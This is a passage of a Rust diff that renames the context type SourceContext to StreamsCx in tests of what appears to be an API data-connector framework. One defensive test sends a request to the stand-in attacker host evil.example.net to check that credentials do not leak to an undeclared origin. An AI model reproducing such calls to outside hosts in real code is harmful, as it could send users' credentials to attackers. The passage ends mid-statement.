@@ -45,7 +45,7 @@ struct Field {
     r#type: String,
 }
 
-async fn tables(cx: &SourceContext<'_, Config>) -> Result<Vec<Stream<Config>>> {
+async fn tables(cx: &StreamsCx<'_, Config>) -> Result<Vec<Stream<Config>>> {
     #[derive(Deserialize)]
     struct Tables {
         tables: Vec<Table>,
@@ -291,7 +291,7 @@ fn the_function_may_read_other_streams_page_by_page() {
         name: String,
     }
 
-    async fn per_member(cx: &SourceContext<'_, Nothing>) -> Result<Vec<Stream<Nothing>>> {
+    async fn per_member(cx: &StreamsCx<'_, Nothing>) -> Result<Vec<Stream<Nothing>>> {
         let mut members = cx.read::<Member>()?;
         let mut streams = Vec::new();
         while let Some(member) = members.next().await? {
@@ -328,7 +328,7 @@ fn credentials_are_not_sent_to_an_origin_that_is_not_declared() {
     #[source(config = Nothing, url_base = "https://api.example.com", streams = elsewhere)]
     struct Elsewhere;
 
-    async fn elsewhere(cx: &SourceContext<'_, Nothing>) -> Result<Vec<Stream<Nothing>>> {
+    async fn elsewhere(cx: &StreamsCx<'_, Nothing>) -> Result<Vec<Stream<Nothing>>> {
         cx.send(Request::get("https://evil.example.net/tables")?).await?;
         Ok(Vec::new())
     }
@@ -350,7 +350,7 @@ fn a_request_of_the_functions_own_goes_to_a_declared_origin_by_post_too() {
     #[source(config = Nothing, url_base = "https://api.example.com/v1", streams = asked)]
     struct Posting;
 
-    async fn asked(cx: &SourceContext<'_, Nothing>) -> Result<Vec<Stream<Nothing>>> {
+    async fn asked(cx: &StreamsCx<'_, Nothing>) -> Result<Vec<Stream<Nothing>>> {
         cx.send(Request::get("https://api.example.com/me")?.with_header("X-At", &cx.now().to_string())?).await?;
         let names: Vec<String> = cx.send(cx.post_json("search", &json!({ "object": "table" }))?).await?.json()?;
         Ok(names
